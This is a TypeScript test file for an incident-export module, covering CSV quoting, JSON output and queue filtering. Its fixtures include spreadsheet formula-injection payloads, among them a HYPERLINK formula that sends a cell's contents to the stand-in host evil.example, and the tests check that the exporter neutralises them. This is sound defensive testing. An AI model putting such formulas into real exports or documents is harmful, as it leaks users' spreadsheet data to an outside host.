import { describe, expect, it } from 'vitest'
import { csvField, incidentListCsv, incidentListJson, INCIDENT_EXPORT_COLUMNS, toCsv } from './csv'
import { filterIncidents, IncidentExportQuery } from './incident-export'
import { HOUR, incident, MIN, T0 } from '../testing/report-kit'
import { parseCsv } from '../testing/csv-kit'

const NOW = T0 + 3 * HOUR

const queue = () => [
  incident({ id: 'INC-1', status: 'open', acknowledgedAt: null, resolvedAt: null, closedAt: null, owner: null, escalationLevel: 0, alertCount: 3, title: 'Plain title' }),
  incident({ id: 'INC-2', status: 'acknowledged', priority: 'P2', severity: 'major', resolvedAt: null, closedAt: null, title: 'Comma, "quotes" and\r\na line break' }),
  incident({ id: 'INC-3', status: 'resolved', priority: 'P3', severity: 'minor', client: 'globex', title: '=HYPERLINK("http://evil.example/?x="&A1,"click")' }),
  incident({ id: 'INC-4', status: 'open', priority: 'P4', severity: 'warning', title: '@SUM(1+1)', owner: '-2+3', acknowledgedAt: null, resolvedAt: null, closedAt: null }),
  incident({ id: 'INC-5', status: 'open', priority: 'P4', severity: 'info', title: '\tTabbed', owner: '+cmd', acknowledgedAt: null, resolvedAt: null, closedAt: null }),
  incident({ id: 'INC-6', status: 'open', priority: 'P4', severity: 'info', title: '\rCR first', acknowledgedAt: null, resolvedAt: null, closedAt: null }),
]

describe('CSV (RFC 4180)', () => {
  it('round-trips through a strict parser with the same rows, in order, as the queue', () => {
    const csv = incidentListCsv(queue(), NOW)
    const rows = parseCsv(csv)
    expect(rows[0]).toEqual([...INCIDENT_EXPORT_COLUMNS])
    expect(rows.slice(1).map((r) => r[0])).toEqual(['INC-1', 'INC-2', 'INC-3', 'INC-4', 'INC-5', 'INC-6'])
    for (const r of rows) expect(r).toHaveLength(INCIDENT_EXPORT_COLUMNS.length)
    const col = (name: (typeof INCIDENT_EXPORT_COLUMNS)[number]) => INCIDENT_EXPORT_COLUMNS.indexOf(name)
    const first = rows[1]
    expect(first[col('priority')]).toBe('P1')
    expect(first[col('opened')]).toBe('2025-06-02T08:00:00Z')
    expect(first[col('acknowledged')]).toBe('')
    expect(first[col('age')]).toBe('3h 00m')
    expect(first[col('age_seconds')]).toBe('10800')
    expect(first[col('escalation_level')]).toBe('0')
    expect(first[col('alert_count')]).toBe('3')
    // Commas, quotes and a CRLF inside a field survive exactly.
    expect(rows[2][col('title')]).toBe('Comma, "quotes" and\r\na line break')
    expect(rows[2][col('acknowledged')]).toBe('2025-06-02T08:04:30Z')
  })

  it('neutralises spreadsheet formulas: cells starting with = + - @ TAB CR get a leading apostrophe', () => {
    const rows = parseCsv(incidentListCsv(queue(), NOW))
    const title = INCIDENT_EXPORT_COLUMNS.indexOf('title')
    const owner = INCIDENT_EXPORT_COLUMNS.indexOf('owner')
    expect(rows[3][title]).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"click")`)
    expect(rows[4][title]).toBe(`'@SUM(1+1)`)
    expect(rows[4][owner]).toBe(`'-2+3`)
    expect(rows[5][title]).toBe(`'\tTabbed`)
    expect(rows[5][owner]).toBe(`'+cmd`)
    expect(rows[6][title]).toBe(`'\rCR first`)
    // No cell of the file starts with a formula character.
    for (const r of rows) for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
  })

  it('writes CRLF record ends, quotes only when needed, doubles quotes, optional BOM', () => {
    expect(toCsv(['a', 'b'], [['x', 'y,z']])).toBe('a,b\r\nx,"y,z"\r\n')
    expect(csvField('say "hi"')).toBe('"say ""hi"""')
    expect(csvField('line\nbreak')).toBe('"line\nbreak"')
    expect(csvField(null)).toBe('')
    expect(csvField(42)).toBe('42')
    expect(toCsv(['a'], [], { bom: true })).toBe('\ufeffa\r\n')
  })

  it('exports JSON with the same rows, typed', () => {
    const json = JSON.parse(incidentListJson(queue(), NOW, { status: 'open' }))
    expect(json).toMatchObject({ kind: 'incident-export', count: 6, filter: { status: 'open' }, generatedAt: '2025-06-02T11:00:00Z' })
    expect(json.incidents[0]).toMatchObject({ id: 'INC-1', age_seconds: 10800, alert_count: 3, acknowledged: '' })
    // JSON is not a spreadsheet: values are exact, no apostrophes.
    expect(json.incidents[2].title).toBe('=HYPERLINK("http://evil.example/?x="&A1,"click")')
  })
})

describe('export filter', () => {
  it('applies the queue filter: status, priority, client, text search, opened range', () => {
    const list = queue()
    const ids = (q: unknown) => filterIncidents(list, IncidentExportQuery.parse(q)).map((i) => i.id)
    expect(ids({ status: 'open' })).toEqual(['INC-1', 'INC-4', 'INC-5', 'INC-6'])
    expect(ids({ priority: ['P1', 'P2'] })).toEqual(['INC-1', 'INC-2'])
    expect(ids({ client: 'globex' })).toEqual(['INC-3'])
    expect(ids({ q: 'plain' })).toEqual(['INC-1'])
    expect(ids({ from: String(T0 + MIN) })).toEqual([])
    expect(ids({ to: '2025-06-02T08:00:01Z', limit: '2' })).toEqual(['INC-1', 'INC-2'])
    expect(IncidentExportQuery.parse({}).format).toBe('csv')
  })
})
